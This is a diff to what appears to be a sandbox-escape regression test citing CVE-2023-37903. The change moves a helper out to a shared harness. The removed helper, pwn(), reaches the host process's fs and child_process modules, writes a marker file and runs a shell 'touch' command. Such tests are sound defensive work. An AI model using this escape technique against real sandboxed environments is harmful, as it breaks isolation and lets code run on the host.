@@ -1,19 +1,5 @@
 // Escape attempt: CVE-2023-37903 / GHSA-v37h-5mfm-c47c / GHSA-p5gc-c584-jj6v: a util.inspect custom hook gets the host inspect function when the host formats the object.
-// Each attempt hands whatever it reached to pwn(); pwn writes the marker file only if it holds the host process.
-function pwn(p, marker, notes, label) {
-  try {
-    if (!p || (typeof p !== "object" && typeof p !== "function")) { notes.push(label + ": nothing"); return false; }
-    const get = typeof p.getBuiltinModule === "function" ? (n) => p.getBuiltinModule(n) : p.mainModule ? (n) => p.mainModule.require(n) : null;
-    if (!get) { notes.push(label + ": no process"); return false; }
-    get("fs").writeFileSync(marker, "escaped via " + label);
-    try { get("child_process").execSync("touch " + marker + ".cp"); } catch (e) {}
-    notes.push(label + ": ESCAPED");
-    return true;
-  } catch (e) { notes.push(label + ": " + String(e && e.message)); return false; }
-}
-function attempt(notes, label, fn) {
-  try { fn(); } catch (e) { notes.push(label + " threw: " + String(e && e.message).slice(0, 80)); }
-}
+// Runs with ../escape-harness.js prepended (pwn, attempt).
 
 module.exports = {
   name: 'escape-inspect-custom',
